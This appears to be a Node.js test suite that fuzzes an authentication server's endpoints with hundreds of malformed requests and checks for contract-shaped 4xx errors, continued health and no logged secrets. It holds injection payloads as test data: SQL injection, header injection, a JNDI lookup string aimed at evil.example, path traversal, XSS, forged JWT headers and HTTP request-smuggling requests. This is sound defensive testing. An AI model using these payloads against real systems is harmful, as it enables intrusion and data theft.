/**
 * Bad input never yields a 500: hundreds of generated malformed requests — broken JSON, wrong
 * types, huge and empty bodies, unicode and control characters, SQL and header-injection strings,
 * odd cookies and Authorization headers, odd methods and paths, and raw bytes the HTTP parser
 * refuses — each answered with a 4xx of the contract's list in the contract's JSON shape (or, for
 * what Node's parser refuses before hush sees it, a 4xx of the parser's). Afterwards the server is
 * healthy and its output holds none of the passwords and tokens it was sent.
 */
import assert from 'node:assert/strict';
import { request as httpRequest } from 'node:http';
import { connect } from 'node:net';
import { after, before, describe, it } from 'node:test';
import {
  assertNoSecrets,
  assertTokenResponse,
  SECURE_COOKIE,
  uniqueName,
  uniquePassword,
  type Api,
  type HttpReply,
  type JsonObject,
  type RequestOptions,
  type Session,
} from './helpers/http.js';
import { databases, sharedServer } from './helpers/suite.js';

/** The contract's error codes by status, 4xx only. */
const CONTRACT_ERRORS: Readonly<Record<number, readonly string[]>> = {
  400: ['invalid_request'],
  401: ['invalid_credentials', 'missing_token', 'invalid_token', 'invalid_refresh_token'],
  403: ['account_suspended', 'csrf_failed', 'invalid_credentials'],
  404: ['not_found', 'not_supported'],
  409: ['username_taken'],
  413: ['payload_too_large'],
  415: ['unsupported_media_type'],
  429: ['rate_limited'],
};

/** One generated request: what it is, and how to send it through fetch. */
interface FetchCase {
  readonly name: string;
  readonly method: string;
  readonly path: string;
  readonly options: RequestOptions;
}

/** Why `reply` breaks the contract for a malformed request, or undefined when it does not. */
function contractProblem(reply: HttpReply, method: string): string | undefined {
  const codes = CONTRACT_ERRORS[reply.status];
  if (!codes) return `status ${reply.status} is not a 4xx of the contract`;
  if (!/^application\/json/.test(reply.headers.get('content-type') ?? '')) return `content-type ${reply.headers.get('content-type')}`;
  for (const cookie of reply.cookies) {
    if (cookie.value !== '') return `a cookie was set (${cookie.name})`;
  }
  if (reply.headers.get('x-access-token')) return 'an access token was issued';
  if (method === 'HEAD') return undefined;
  const body = reply.body as JsonObject | undefined;
  if (!body || typeof body !== 'object') return `body is not JSON: ${reply.text.slice(0, 120)}`;
  const keys = Object.keys(body).sort().join(',');
  if (keys !== 'error,error_description') return `body members ${keys}: ${reply.text.slice(0, 160)}`;
  if (!codes.includes(body['error'] as string)) return `error "${String(body['error'])}" is not a ${reply.status} of the contract`;
  if (typeof body['error_description'] !== 'string' || body['error_description'].length === 0) return 'no error_description';
  return undefined;
}

/** Sends every case, `width` at a time, and returns the problems found (empty when all held). */
async function sendAll(api: Api, cases: readonly FetchCase[], width = 10): Promise<string[]> {
  const problems: string[] = [];
  for (let i = 0; i < cases.length; i += width) {
    await Promise.all(
      cases.slice(i, i + width).map(async (c) => {
        let reply: HttpReply;
        try {
          reply = await api.send(c.method, c.path, c.options);
        } catch (error) {
          problems.push(`${c.name}: the request failed (${(error as Error).message})`);
          return;
        }
        const problem = contractProblem(reply, c.method);
        if (problem) problems.push(`${c.name} (${c.method} ${c.path.slice(0, 60)}): ${problem}`);
      }),
    );
  }
  return problems;
}

/** A raw HTTP exchange over a socket: what the server wrote before it closed the connection. */
/**
 * Sends each raw request (latin1 text) on its own connection, one after another. Returns the
 * replies by name; a request whose connection failed goes to `problems` instead.
 */
async function exchangeEach(
  url: string,
  requests: Readonly<Record<string, string>>,
  problems: string[],
): Promise<Array<[string, { status: number; headers: string; body: string }]>> {
  const replies: Array<[string, { status: number; headers: string; body: string }]> = [];
  for (const [what, text] of Object.entries(requests)) {
    try {
      replies.push([what, await rawExchange(url, Buffer.from(text, 'latin1'))]);
    } catch (error) {
      problems.push(`${what}: ${(error as Error).message}`);
    }
  }
  return replies;
}

function rawExchange(url: string, data: Buffer): Promise<{ status: number; headers: string; body: string }> {
  const { hostname, port } = new URL(url);
  return new Promise((resolve, reject) => {
    const socket = connect(Number(port), hostname);
    const chunks: Buffer[] = [];
    socket.on('data', (chunk: Buffer) => chunks.push(chunk));
    socket.on('error', () => undefined);
    socket.on('close', () => {
      const text = Buffer.concat(chunks).toString('latin1');
      const match = /^HTTP\/1\.[01] (\d{3})/.exec(text);
      if (!match) {
        reject(new Error(`no HTTP response (${JSON.stringify(text.slice(0, 80))})`));
        return;
      }
      const split = text.indexOf('\r\n\r\n');
      const headers = text.slice(0, split);
      // Only the first response: a refused remainder may follow it as a second one.
      const length = /\r\ncontent-length: *(\d+)/i.exec(headers);
      const body = text.slice(split + 4, length ? split + 4 + Number(length[1]) : undefined);
      resolve({ status: Number(match[1]), headers, body });
    });
    socket.setTimeout(5000, () => socket.destroy());
    // Not end(): a half-closed request may be dropped before its answer; `Connection: close` ends it.
    socket.write(data);
  });
}

/**
 * Sends `method path` with a body that never ends (chunked, or a Content-Length of 1 GiB), 16 KiB
 * every 20 ms, and resolves with the response; fails when none arrives within 15 s.
 */
function endlessBody(url: string, method: string, path: string, headers: Record<string, string>, framing: 'chunked' | 'content-length'): Promise<{ status: number; body: string }> {
  return new Promise((resolve, reject) => {
    const framingHeader: Record<string, string> = framing === 'chunked' ? { 'transfer-encoding': 'chunked' } : { 'content-length': String(2 ** 30) };
    const request = httpRequest(`${url}${path}`, { method, headers: { ...headers, ...framingHeader } });
    const chunk = Buffer.alloc(16 * 1024, 0x78);
    let answered = false;
    const pump = setInterval(() => {
      if (!answered && !request.destroyed) request.write(chunk);
    }, 20);
    const deadline = setTimeout(() => {
      clearInterval(pump);
      request.destroy();
      reject(new Error(`${method} ${path}: no answer within 15 s while the body kept coming`));
    }, 15_000);
    request.on('response', (response) => {
      answered = true;
      clearInterval(pump);
      let text = '';
      response.setEncoding('utf8');
      response.on('data', (part: string) => (text += part));
      response.on('end', () => {
        clearTimeout(deadline);
        request.destroy();
        resolve({ status: response.statusCode ?? 0, body: text });
      });
    });
    // The server may close the connection once it has answered: only a missing answer is a failure.
    request.on('error', () => undefined);
    request.flushHeaders();
  });
}

const JSON_TYPE = { 'content-type': 'application/json' };
const WRONG = 'wrong password!';

/** Strings no field should choke on: SQL, header injection, control and unusual unicode, sizes. */
const NASTY: readonly string[] = [
  "' OR '1'='1",
  "admin'--",
  '"; DROP TABLE users; --',
  "1; SELECT pg_sleep(10); --",
  "' UNION SELECT password_hash, salt FROM users --",
  "%' AND 1=0 UNION SELECT * FROM users WHERE '%'='",
  'Robert\'); DELETE FROM revocations;--',
  '\r\nSet-Cookie: injected=1',
  'abc\r\n\r\nHTTP/1.1 200 OK\r\n',
  'x\nLocation: https://evil.example',
  '%0d%0aSet-Cookie:%20x=y',
  '\u0007\u0008\u001b[31mred\u001b[0m',
  '\u202eevil\u202dname',
  '\ufeffbom-prefixed',
  'zero\u200bwidth\u200bspace',
  '𝔲𝔫𝔦𝔠𝔬𝔡𝔢 𝔫𝔞𝔪𝔢',
  '🔥🔥🔥🔥🔥🔥🔥🔥',
  'a\u0301\u0301\u0301\u0301\u0301\u0301\u0301',
  'İstanbul-ǅ-ß-ﬃ',
  '\ud83d lone high surrogate',
  'lone low surrogate \udc00',
  '../../../../etc/passwd',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}<%= 7*7 %>',
  '<img src=x onerror=alert(1)>',
  '\\u0000\\n\\r',
  'a'.repeat(65),
  'b'.repeat(5000),
  // NFKC expands each of these to 18 characters: a normalisation bomb.
  '\ufdfa'.repeat(300),
  '\ufdfa'.repeat(1100),
  '',
  ' ',
];

/** Strings with NUL characters, which some databases cannot even hold. */
const WITH_NUL: readonly string[] = ['\u0000\u0000\u0000\u0000\u0000\u0000\u0000\u0000', 'abc\u0000def\u0000ghi', '\u0000leading-nul', 'trailing-nul\u0000'];

/** A value for every JSON type that is not a string. */
const NOT_STRINGS: readonly unknown[] = [0, -1, 3.14, 1e308, true, false, null, [], ['abc'], {}, { value: 'abc' }];

/** Raw JSON texts that are broken, or not an object, or an object hush must refuse. */
const BROKEN_JSON: readonly string[] = [
  '',
  ' ',
  '\n\t',
  '{',
  '}',
  '{"',
  '{"username"',
  '{"username":}',
  '{"username":"abc",}',
  "{'username':'abc'}",
  '{username:"abc"}',
  '{"username":"abc" "password":"abcdefgh"}',
  '{"username":"abc","password":"abcdefgh"',
  'null',
  'true',
  'false',
  '0',
  '-1',
  '1e999',
  '"a string"',
  '[]',
  '[{}]',
  '[null]',
  '{"a":1}{"b":2}',
  '{}garbage',
  'garbage',
  '\u0000',
  'NaN',
  'Infinity',
  'undefined',
  '{"username":01}',
  '{"username":"\\x41"}',
  '{"username":"abc\\"}',
  '['.repeat(5000) + ']'.repeat(5000),
  '{"a":'.repeat(2000) + '1' + '}'.repeat(2000),
  '{"__proto__":{"isAdmin":true},"username":"abcdef","password":"abcdefgh"}',
  '{"constructor":{"prototype":{"isAdmin":true}},"username":"abcdef","password":"abcdefgh"}',
  '\ufeff{}',
  '{"username":"abc"}\u0000',
];

/** Authorization headers that are not a valid Bearer token. `t` is a real token, `r` a refresh token. */
function oddAuthorizations(t: string, r: string): string[] {
  const [head = '', body = '', sig = ''] = t.split('.');
  const b64 = (value: string): string => Buffer.from(value).toString('base64url');
  return [
    '',
    ' ',
    'Bearer',
    'Bearer ',
    'Bearer  ',
    'bearer',
    'Basic',
    `Basic ${Buffer.from('admin:admin').toString('base64')}`,
    'Negotiate YIIGhgYJKoZIhvcSAQICAQBuggZ1MIIGcaADAgEFoQMCAQ6iBwMFACAAAAA=',
    'Bearer null',
    'Bearer undefined',
    'Bearer a.b',
    'Bearer a.b.c',
    'Bearer a.b.c.d.e',
    'Bearer ...',
    `Bearer ${'a'.repeat(9000)}`,
    `Bearer ${t} extra`,
    `Bearer ${t}, Bearer ${t}`,
    `Bearer ${r}`,
    `Bearer ${t}x`,
    `Bearer ${head}.${body}.${sig.slice(0, -2)}`,
    `Bearer ${head}.${body}`,
    `Bearer ${b64('{"alg":"none","typ":"at+jwt"}')}.${body}.`,
    `Bearer ${b64('{"alg":"HS256","typ":"at+jwt"}')}.${b64('[]')}.${sig}`,
    `Bearer ${b64('{"alg":"HS256","typ":"at+jwt","kid":"../../../etc/passwd"}')}.${body}.${sig}`,
    `Bearer ${b64('{"alg":"RS256","typ":"at+jwt","jku":"https://evil.example/jwks"}')}.${body}.${sig}`,
    `Bearer ${b64('not json')}.${body}.${sig}`,
    `Bearer ${head}.${b64('{"sub":"1","exp":1e999}')}.${sig}`,
    "Bearer ' OR '1'='1",
    'Bearer %00',
    'Bearer\ttab',
    `Token ${t}`,
  ];
}

for (const { database, skip } of await databases()) {
  describe(`bad input (${database})`, { skip }, () => {
    const shared = sharedServer(database);
    let victim: Session;
    let sent = 0;

    before(async () => {
      victim = await shared.api.session(uniqueName('target'), uniquePassword());
    });

    const check = async (cases: FetchCase[]): Promise<void> => {
      sent += cases.length;
      const problems = await sendAll(shared.api, cases);
      assert.deepEqual(problems, [], `${problems.length} of ${cases.length} answers broke the contract`);
    };

    const jsonRoutes = (): Array<{ method: string; path: string; token?: string; fields: readonly string[] }> => [
      { method: 'POST', path: '/auth/signup', fields: ['username', 'password'] },
      { method: 'POST', path: '/auth/login', fields: ['username', 'password'] },
      { method: 'POST', path: '/auth/password', token: victim.token, fields: ['currentPassword', 'newPassword'] },
      { method: 'DELETE', path: '/auth/me', token: victim.token, fields: ['password'] },
    ];

    it('answers broken JSON and non-object bodies on every JSON route with contract errors', async () => {
      const cases: FetchCase[] = [];
      for (const route of jsonRoutes()) {
        for (const body of BROKEN_JSON) {
          cases.push({ name: `broken JSON ${JSON.stringify(body.slice(0, 30))}`, method: route.method, path: route.path, options: { token: route.token, headers: JSON_TYPE, body } });
        }
      }
      await check(cases);
    });

    it('answers every field of every JSON route holding a non-string with a contract error', async () => {
      const cases: FetchCase[] = [];
      for (const route of jsonRoutes()) {
        for (const field of route.fields) {
          for (const value of NOT_STRINGS) {
            // The other fields hold strings that cannot succeed (a wrong current password).
            const json: JsonObject = Object.fromEntries(route.fields.map((f) => [f, f === field ? value : f === 'username' ? victim.username : WRONG]));
            cases.push({ name: `${field}=${JSON.stringify(value)}`, method: route.method, path: route.path, options: { token: route.token, json } });
          }
        }
      }
      await check(cases);
    });

    it('answers other media types and bodies over 16 KiB with contract errors', async () => {
      const cases: FetchCase[] = [];
      const body = JSON.stringify({ username: victim.username, password: WRONG, currentPassword: WRONG, newPassword: WRONG });
      for (const route of jsonRoutes()) {
        for (const type of [undefined, 'text/plain', 'text/json', 'application/jsonx', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x', 'application/xml', 'application/ld+json', '*/*', 'application', ';', 'application/json\u00a0']) {
          cases.push({ name: `content-type ${JSON.stringify(type)}`, method: route.method, path: route.path, options: { token: route.token, headers: type === undefined ? {} : { 'content-type': type }, body } });
        }
        for (const size of [16 * 1024 + 1, 100 * 1024, 1024 * 1024]) {
          cases.push({ name: `${size}-byte body`, method: route.method, path: route.path, options: { token: route.token, headers: JSON_TYPE, body: `{"username":"${'u'.repeat(size - 15)}"}` } });
        }
        cases.push({ name: 'binary body', method: route.method, path: route.path, options: { token: route.token, headers: JSON_TYPE, body: new Uint8Array([0xff, 0xfe, 0x00, 0x7b, 0x7d, 0xc3, 0x28]) } });
      }
      await check(cases);
    });

    /** Every field of every JSON route holding `strings`, in requests that cannot succeed. */
    const fieldCases = (strings: readonly string[]): FetchCase[] => {
      const cases: FetchCase[] = [];
      for (const nasty of strings) {
        const label = JSON.stringify(nasty.slice(0, 24));
        shared.api.remember(nasty);
        cases.push(
          { name: `signup username ${label}`, method: 'POST', path: '/auth/signup', options: { json: { username: nasty, password: uniquePassword() } } },
          // A taken username, so that no nasty password can create an account.
          { name: `signup password ${label}`, method: 'POST', path: '/auth/signup', options: { json: { username: victim.username, password: nasty } } },
          { name: `login username ${label}`, method: 'POST', path: '/auth/login', options: { json: { username: nasty, password: WRONG } } },
          { name: `login password ${label}`, method: 'POST', path: '/auth/login', options: { json: { username: victim.username, password: nasty } } },
          { name: `current password ${label}`, method: 'POST', path: '/auth/password', options: { token: victim.token, json: { currentPassword: nasty, newPassword: uniquePassword() } } },
          { name: `new password ${label}`, method: 'POST', path: '/auth/password', options: { token: victim.token, json: { currentPassword: WRONG, newPassword: nasty } } },
          { name: `delete password ${label}`, method: 'DELETE', path: '/auth/me', options: { token: victim.token, json: { password: nasty } } },
        );
      }
      return cases;
    };

    it('answers SQL, header-injection, control and unicode strings in every field with contract errors', async () => {
      await check(fieldCases(NASTY));
    });

    it('answers odd Authorization headers on every Bearer route with 401', async () => {
      const cases: FetchCase[] = [];
      const routes: Array<[string, string, JsonObject | undefined]> = [
        ['GET', '/api/private', undefined],
        ['GET', '/auth/me', undefined],
        ['DELETE', '/auth/me', { password: WRONG }],
        ['POST', '/auth/logout-all', undefined],
        ['POST', '/auth/password', { currentPassword: WRONG, newPassword: uniquePassword() }],
        ['GET', '/auth/sessions', undefined],
        ['DELETE', '/auth/sessions/x', undefined],
      ];
      for (const authorization of oddAuthorizations(victim.token, victim.cookie)) {
        shared.api.remember(authorization);
        for (const [method, path, json] of routes) {
          cases.push({ name: `Authorization ${JSON.stringify(authorization.slice(0, 40))}`, method, path, options: { json, headers: { authorization } } });
        }
      }
      await check(cases);
    });

    it('answers odd refresh cookies with contract errors', async () => {
      const name = SECURE_COOKIE;
      const [head = '', body = '', sig = ''] = victim.cookie.split('.');
      const cookies = [
        '',
        '=',
        ';;;',
        `${name}`,
        `${name}=`,
        `${name}=;`,
        `${name}=garbage`,
        `${name}="quoted.value.here"`,
        `${name}=${'a'.repeat(6000)}`,
        `${name}=%00`,
        `${name}=a%2Eb%2Ec`,
        `${name}=${victim.token}`,
        `${name}=${head}.${body}.${sig.slice(0, -3)}`,
        `${name}=${head}.${body}`,
        `${name}=${victim.cookie}x`,
        `${name}=x; ${name}=y`,
        `__Host-hush-refresh-x=${victim.cookie}`,
        `hush-refresh=${victim.cookie}`,
        `=${name}=${victim.cookie}`,
        `${name}=${victim.cookie}; ${name}=${victim.cookie}`,
        `__Secure-hush-refresh=${victim.cookie}; __Secure-hush-refresh=x`,
        `${name.toLowerCase()}=${victim.cookie}`,
        `${name}=\u00ff\u00fe`,
        `${name}=' OR '1'='1`,
        `${name}=${'{"sub":"x"}'}`,
        `${'x'.repeat(200)}=${'y'.repeat(200)}`,
      ];
      const cases: FetchCase[] = [];
      for (const cookie of cookies) {
        shared.api.remember(cookie);
        const label = `Cookie ${JSON.stringify(cookie.slice(0, 40))}`;
        cases.push(
          { name: label, method: 'POST', path: '/auth/refresh', options: { headers: { cookie, 'x-requested-with': 'XMLHttpRequest' } } },
          { name: `${label} without X-Requested-With`, method: 'POST', path: '/auth/refresh', options: { headers: { cookie } } },
          { name: `${label} logout without X-Requested-With`, method: 'POST', path: '/auth/logout', options: { headers: { cookie } } },
        );
      }
      await check(cases);
    });

    it('answers odd methods and paths with contract errors', async () => {
      const cases: FetchCase[] = [];
      for (const method of ['PUT', 'PATCH', 'PROPFIND', 'MKCOL', 'LOCK', 'SEARCH', 'PURGE', 'OPTIONS', 'HEAD']) {
        for (const path of ['/auth/login', '/auth/signup', '/auth/me', '/api/private', '/auth/refresh']) {
          cases.push({ name: `${method} ${path}`, method, path, options: {} });
        }
      }
      const paths = [
        '/auth/',
        '/auth//login',
        '//auth/login',
        '/AUTH/LOGIN',
        '/auth/login/',
        '/auth/Login',
        `/auth/sessions/${'x'.repeat(500)}`,
        '/auth/sessions/..%2f..%2fme',
        '/%2e%2e/%2e%2e/etc/passwd',
        '/auth/%2e%2e/api/private',
        '/api/private%00',
        '/api/private%2f',
        '/.well-known/%2e%2e/auth/me',
        '/auth/me;jsessionid=x',
        '/auth/me%20',
        '/auth/\u00e9\u00e8',
        '/api/private/..;/..;/admin',
        `/${'a'.repeat(8000)}`,
        '/auth/login?username=admin&password=admin',
        '/.env',
        '/data/hush.sqlite',
        '/data/secrets.json',
        '/../package.json',
        '/node_modules/fastify/package.json',
      ];
      for (const path of paths) {
        cases.push({ name: `GET ${path.slice(0, 40)}`, method: 'GET', path, options: {} });
        cases.push({ name: `POST ${path.slice(0, 40)}`, method: 'POST', path, options: { headers: { ...JSON_TYPE, 'x-requested-with': 'x' }, body: '{}' } });
      }
      await check(cases);
    });

    it('answers malformed percent-encoding in paths with a contract error', async () => {
      const cases: FetchCase[] = ['/auth/%zz', '/auth/%', '/api/private%', '/auth/%c3%28', '/auth/sessions/%ff'].map((path) => ({
        name: `GET ${path}`,
        method: 'GET',
        path,
        options: {},
      }));
      await check(cases);
    });

    it('answers raw requests the HTTP parser refuses with its 4xx, before hush sees them', async () => {
      const { host } = new URL(shared.server.url);
      const h = `Host: ${host}\r\nConnection: close\r\n`;
      const refused: Record<string, string> = {
        'an unknown method': `FOO / HTTP/1.1\r\n${h}\r\n`,
        'an unknown HTTP version': `GET /healthz HTTP/9.9\r\n${h}\r\n`,
        'no Host header': 'GET /healthz HTTP/1.1\r\nConnection: close\r\n\r\n',
        'a header without a colon': `GET /healthz HTTP/1.1\r\n${h}BadHeader\r\n\r\n`,
        'a space before the colon': `GET /healthz HTTP/1.1\r\n${h}X-A : b\r\n\r\n`,
        'a control character in a header': `GET /healthz HTTP/1.1\r\n${h}X-A: b\u0001c\r\n\r\n`,
        'a bare CR in a header (response splitting)': `POST /auth/login HTTP/1.1\r\n${h}X-Requested-With: a\rSet-Cookie: x=y\r\n\r\n`,
        'both Content-Length and Transfer-Encoding (smuggling)': `POST /auth/login HTTP/1.1\r\n${h}Content-Type: application/json\r\nContent-Length: 2\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n`,
        'two different Content-Lengths': `POST /auth/login HTTP/1.1\r\n${h}Content-Type: application/json\r\nContent-Length: 2\r\nContent-Length: 3\r\n\r\n{}`,
        'a negative Content-Length': `POST /auth/login HTTP/1.1\r\n${h}Content-Type: application/json\r\nContent-Length: -1\r\n\r\n{}`,
        'a broken chunk size': `POST /auth/login HTTP/1.1\r\n${h}Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n{}\r\n0\r\n\r\n`,
        'an unknown Transfer-Encoding': `POST /auth/login HTTP/1.1\r\n${h}Content-Type: application/json\r\nTransfer-Encoding: gzip\r\n\r\n{}`,
        'headers over 16 KiB': `GET /healthz HTTP/1.1\r\n${h}Authorization: Bearer ${'a'.repeat(20000)}\r\n\r\n`,
        'a space in the path': `GET /auth me HTTP/1.1\r\n${h}\r\n`,
        'a NUL in the path': `GET /auth/\u0000me HTTP/1.1\r\n${h}\r\n`,
        'raw UTF-8 in the path': `GET /auth/\u00c3\u00a9 HTTP/1.1\r\n${h}\r\n`,
        'obsolete line folding': `GET /healthz HTTP/1.1\r\n${h}X-A: b\r\n c\r\n\r\n`,
        'a Content-Length shorter than the body (the rest is a broken second request)': `POST /auth/login HTTP/1.1\r\n${h}Content-Type: application/json\r\nContent-Length: 5\r\n\r\n{"username":"abcdef","password":"abcdefgh"}`,
        'bare LF line ends': `GET /healthz HTTP/1.1\n${h.replace(/\r\n/g, '\n')}\n`,
      };
      const problems: string[] = [];
      sent += Object.keys(refused).length;
      for (const [what, reply] of await exchangeEach(shared.server.url, refused, problems)) {
        if (reply.status < 400 || reply.status > 499) problems.push(`${what}: ${reply.status}`);
        if (/set-cookie/i.test(reply.headers)) problems.push(`${what}: a Set-Cookie header came back`);
      }
      assert.deepEqual(problems, []);
    });

    it('answers odd raw requests that reach hush with contract errors', async () => {
      const { host } = new URL(shared.server.url);
      const h = `Host: ${host}\r\nConnection: close\r\n`;
      const login = `POST /auth/login HTTP/1.1\r\n${h}Content-Type: application/json\r\n`;
      const wrong = JSON.stringify({ username: victim.username, password: WRONG });
      const reaching: Record<string, string> = {
        'a chunked body with no fields': `${login}Transfer-Encoding: chunked\r\n\r\n2\r\n{}\r\n0\r\n\r\n`,
        'a chunked body over 16 KiB': `${login}Transfer-Encoding: chunked\r\n\r\n${(20 * 1024).toString(16)}\r\n${'x'.repeat(20 * 1024)}\r\n0\r\n\r\n`,
        'Content-Encoding: gzip on plain JSON': `${login}Content-Encoding: gzip\r\nContent-Length: ${wrong.length}\r\n\r\n${wrong}`,
        'a Content-Length beyond the limit': `${login}Content-Length: 100000\r\n\r\n{}`,
        'invalid UTF-8 in the JSON': `${login}Content-Length: 8\r\n\r\n{"\u00ff\u00fe":1}`,
        'two Content-Type headers': `POST /auth/login HTTP/1.1\r\n${h}Content-Type: text/plain\r\nContent-Type: application/json\r\nContent-Length: 2\r\n\r\n{}`,
        'two Authorization headers': `GET /api/private HTTP/1.1\r\n${h}Authorization: Bearer garbage\r\nAuthorization: Basic eDp5\r\n\r\n`,
        'two Cookie headers': `POST /auth/refresh HTTP/1.1\r\n${h}X-Requested-With: x\r\nCookie: ${SECURE_COOKIE}=a\r\nCookie: ${SECURE_COOKIE}=b\r\n\r\n`,
        'OPTIONS without Origin': `OPTIONS /auth/login HTTP/1.1\r\n${h}\r\n`,
        'TRACE': `TRACE /auth/login HTTP/1.1\r\n${h}\r\n`,
        'a percent-encoded NUL': `GET /auth/%00 HTTP/1.1\r\n${h}\r\n`,
        'dot segments': `GET /../../etc/passwd HTTP/1.1\r\n${h}\r\n`,
        'a foreign Host and Origin': `POST /auth/logout HTTP/1.1\r\nHost: evil.example\r\nOrigin: https://auth.example\r\nConnection: close\r\n\r\n`,
        'HTTP/1.0 with a body': `POST /auth/login HTTP/1.0\r\nContent-Type: application/json\r\nContent-Length: 2\r\n\r\n{}`,
      };
      const problems: string[] = [];
      sent += Object.keys(reaching).length;
      for (const [what, reply] of await exchangeEach(shared.server.url, reaching, problems)) {
        const codes = CONTRACT_ERRORS[reply.status];
        if (!codes) {
          problems.push(`${what}: status ${reply.status}`);
          continue;
        }
        if (/set-cookie: (?!(__Host-|__Secure-)hush-refresh=;)/i.test(reply.headers)) problems.push(`${what}: a cookie was set`);
        let body: JsonObject | undefined;
        try {
          body = JSON.parse(reply.body) as JsonObject;
        } catch {
          problems.push(`${what}: body is not JSON: ${reply.body.slice(0, 100)}`);
          continue;
        }
        if (Object.keys(body).sort().join(',') !== 'error,error_description' || !codes.includes(body['error'] as string)) {
          problems.push(`${what}: ${reply.status} ${reply.body.slice(0, 160)}`);
        }
      }
      assert.deepEqual(problems, []);
    });

    it("answers headers over 16 KiB with 431 in the contract's error format (code headers_too_large)", async () => {
      const { host } = new URL(shared.server.url);
      const problems: string[] = [];
      const requests = {
        'one long header': `GET /auth/me HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\nAuthorization: Bearer ${'a'.repeat(20_000)}\r\n\r\n`,
        'many headers': `POST /auth/login HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n${Array.from({ length: 400 }, (_, i) => `X-H${i}: ${'v'.repeat(60)}\r\n`).join('')}\r\n`,
      };
      sent += Object.keys(requests).length;
      for (const [what, reply] of await exchangeEach(shared.server.url, requests, problems)) {
        assert.equal(reply.status, 431, what);
        assert.match(reply.headers, /\r\ncontent-type: application\/json/i, what);
        assert.match(reply.headers, /\r\ncache-control: no-store/i, what);
        const body = JSON.parse(reply.body) as JsonObject;
        assert.deepEqual(Object.keys(body).sort(), ['error', 'error_description'], what);
        assert.equal(body['error'], 'headers_too_large', what);
        assert.ok(String(body['error_description']).length > 0, what);
      }
      assert.deepEqual(problems, []);
    });

    it('answers an endless body on every bodiless POST and DELETE with 413 payload_too_large, without waiting for its end', async () => {
      const routes: Array<[string, string, Record<string, string>]> = [
        ['POST', '/auth/refresh', { 'x-requested-with': 'x', cookie: `${SECURE_COOKIE}=${victim.cookie}` }],
        ['POST', '/auth/logout', { 'x-requested-with': 'x' }],
        ['POST', '/auth/logout-all', { authorization: `Bearer ${victim.token}` }],
        ['DELETE', '/auth/sessions/some-id', { authorization: `Bearer ${victim.token}` }],
      ];
      for (const [method, path, headers] of routes) {
        for (const framing of ['chunked', 'content-length'] as const) {
          sent++;
          const reply = await endlessBody(shared.server.url, method, path, { ...headers, 'content-type': 'application/octet-stream' }, framing);
          assert.equal(reply.status, 413, `${method} ${path} (${framing}): ${reply.body}`);
          assert.equal((JSON.parse(reply.body) as JsonObject)['error'], 'payload_too_large');
        }
      }
      // Still served: up to 16 KiB of ignored body is read as before.
      assert.equal((await shared.api.send('POST', '/auth/logout', { headers: { 'x-requested-with': 'x', 'content-type': 'text/plain' }, body: 'x'.repeat(16 * 1024) })).status, 204);
    });

    it('answers every response under /auth and /api/private with Cache-Control: no-store, errors included', async () => {
      const username = uniqueName('nostore');
      const password = uniquePassword();
      const replies: Array<[string, HttpReply]> = [];
      const record = async (what: string, reply: Promise<HttpReply>): Promise<HttpReply> => {
        const done = await reply;
        replies.push([`${what} (${done.status})`, done]);
        return done;
      };
      const signup = await record('signup', shared.api.signup(username, password));
      const session = shared.api.sessionFrom(signup, username, password);
      await record('login', shared.api.login(username, password));
      await record('refresh', shared.api.refresh(session.cookie));
      await record('refresh without a cookie', shared.api.refresh(undefined));
      await record('me', shared.api.me(session.token));
      await record('me without a token', shared.api.send('GET', '/auth/me'));
      await record('private', shared.api.private(session.token));
      await record('private without a token', shared.api.send('GET', '/api/private'));
      await record('sessions', shared.api.send('GET', '/auth/sessions', { token: session.token }));
      await record('unknown route under /auth', shared.api.send('GET', '/auth/nothing-here'));
      await record('csrf refusal', shared.api.login(username, password, { origin: 'https://evil.example' }));
      await record('wrong media type', shared.api.send('POST', '/auth/login', { headers: { 'content-type': 'text/plain' }, body: '{}' }));
      await record('bad field', shared.api.send('POST', '/auth/login', { json: { username: 1, password: 2 } }));
      const changed = await record('password', shared.api.changePassword(session.token, password, `${password}!`));
      const token = (changed.body as { access_token: string }).access_token;
      await record('logout', shared.api.logout(session.cookie));
      await record('delete account', shared.api.deleteMe(token, `${password}!`));
      await record('logout-all after deletion', shared.api.logoutAll(token));
      const missing = replies.filter(([, reply]) => !/\bno-store\b/.test(reply.headers.get('cache-control') ?? '')).map(([what]) => what);
      assert.deepEqual(missing, []);
    });

    describe('afterwards', () => {
      it(`has sent at least 300 malformed requests`, () => {
        assert.ok(sent >= 300, `${sent} requests`);
      });

      it('is still healthy: /healthz and /readyz answer 200, signup and login work', async () => {
        assert.equal(shared.server.process.exitCode, null, 'the server process is running');
        assert.equal((await shared.api.send('GET', '/healthz')).status, 200);
        assert.equal((await shared.api.send('GET', '/readyz')).status, 200);
        const username = uniqueName('after');
        const password = uniquePassword();
        assertTokenResponse(await shared.api.signup(username, password), 201, username);
        const login = await shared.api.login(username, password);
        assertTokenResponse(login, 200, username);
        assert.equal((await shared.api.private(shared.api.sessionFrom(login, username, password).token)).status, 200);
        assert.equal((await shared.api.private(victim.token)).status, 200, "the target's session survived it all");
      });

      it('has written none of the passwords and tokens it was sent to its output', () => {
        assertNoSecrets(shared.server.output(), shared.api.secrets);
        assert.ok(!/"level":50/.test(shared.server.output()), 'no error-level log line (an unexpected error)');
      });
    });

    // Last, so that a failure here (server-bugs.md #6) cannot disturb the checks above.
    it('answers NUL characters in every field with contract errors', async () => {
      await check(fieldCases(WITH_NUL));
    });

    after(() => {
      // The summary a reader wants: how many requests this block threw at the server.
      console.log(`bad input (${database}): ${sent} malformed requests`);
    });
  });
}
